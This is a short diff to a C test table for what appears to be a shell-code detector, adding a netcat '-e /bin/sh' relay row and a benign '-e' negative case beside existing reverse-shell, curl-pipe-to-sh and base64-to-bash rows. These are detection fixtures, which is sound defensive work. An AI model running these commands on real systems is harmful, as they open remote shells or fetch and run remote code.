@@ -123,6 +123,8 @@ static const struct {
 	}
 	ROW("a shell on a connection", "x\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n",
 	    SL_SIGNAL_SHELL_CODE),
+	ROW("a relay with a shell", "nc 203.0.113.7 4 -e /bin/sh\n", SL_SIGNAL_SHELL_CODE),
+	ROW("what has another -e", "docker run -e /bin/x\nset -e /bin/sh\n", 0),
 	ROW("what is fetched and run", "while :; do curl -s x | sh; done", SL_SIGNAL_SHELL_CODE),
 	ROW("what is decoded and run", "a\nbase64 -d <b|bash\nc\n", SL_SIGNAL_SHELL_CODE),
 	ROW("in a comment", "  # curl -s x | sh\n", 0),
